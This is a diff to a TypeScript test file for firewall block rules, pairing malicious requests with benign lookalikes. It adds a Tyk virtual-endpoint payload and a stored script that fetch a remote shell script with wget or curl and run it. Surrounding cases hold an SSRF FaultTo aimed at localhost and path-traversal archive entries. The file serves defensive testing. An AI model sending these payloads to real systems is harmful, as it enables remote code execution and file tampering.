@@ -5,8 +5,8 @@
  * request closest to it: a UDF jar on the cluster's own store, a SELECT from a cluster name, prose naming
  * load_extension, a Link header and a search for an event handler, a data directory mounted into a container, a
  * template's PHP echo of a variable, a partial of the site's own, a credentials file with a comment line, a Wikidata
- * SERVICE, the anonymous ReplyTo address, an order's own Address element and archive entries that stay within
- * two folders of their own.
+ * SERVICE, the anonymous ReplyTo address, an order's own Address element, archive entries that stay within two
+ * folders of their own and a virtual endpoint that only calls an API.
  */
 import { describe } from 'vitest';
 import type { RequestSpec } from './fixtures.js';
@@ -66,6 +66,8 @@ const CASES: RuleCase[] = [
   [9000509, 'block', 'a FaultTo on localhost', { method: 'POST', url: '/services/OrderService', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://www.w3.org/2005/08/addressing"><s:Header><a:FaultTo><a:Address>http://localhost:15672/api/overview</a:Address></a:FaultTo></s:Header><s:Body/></s:Envelope>' }, { method: 'POST', url: '/services/OrderService', headers: [...BROWSER, ['Content-Type', 'application/soap+xml']], body: '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Body><Order><Address>10 Main St</Address><ReplyTo>ops@example.com</ReplyTo></Order></s:Body></s:Envelope>' }],
   [9000423, 'block', 'an archive entry climbing from a board folder to the app\'s static files', zipUpload('board/../../../../opt/app/static/index.html'), zipUpload('board/../assets/index.html')],
   [9000423, 'block', 'an archive entry climbing to /tmp', zipUpload('x/../../../../tmp/s.sh'), zipUpload('reports/2024/../../archive/q1.pdf')],
+  [9001399, 'block', 'a base64 virtual endpoint whose code runs wget of a URL', postJson('/tyk/apis', `{"name":"x","config_data":{},"version_data":{"versions":{"Default":{"extended_paths":{"virtual":[{"response_function_name":"h","function_source_type":"blob","function_source_uri":"${Buffer.from('function h(request, session, config) { var o = exec("wget http://dl.example.net/x.sh;chmod +x /tmp/x;/tmp/x"); return TykJsResponse({Body: "ok", Code: 200}, session.meta_data) }').toString('base64')}","path":"/x","method":"GET"}]}}}}}`), postJson('/tyk/apis', `{"name":"x","config_data":{},"version_data":{"versions":{"Default":{"extended_paths":{"virtual":[{"response_function_name":"h","function_source_type":"blob","function_source_uri":"${Buffer.from('function h(request, session, config) { var r = TykMakeHttpRequest(JSON.stringify({Method: "GET", Domain: "https://api.example.com", Resource: "/"})); return TykJsResponse({Body: r, Code: 200}, session.meta_data) }').toString('base64')}","path":"/x","method":"GET"}]}}}}}`)],
+  [9001399, 'block', 'execSync of curl piped to a shell in a stored script', postJson('/api/scripts', '{"source":"require(\'child_process\').execSync(\'curl https://dl.example.net/a|sh\')"}'), postJson('/api/scripts', '{"source":"execSync(\'npm ci\'); // then curl https://registry.npmjs.org/ to check"}')],
 ];
 
 describe('bundled rules from held-out-25\'s misses and held-out 19-24\'s residue (revs 2026-12-13e, 2026-12-13f, 2026-12-13g)', () => {
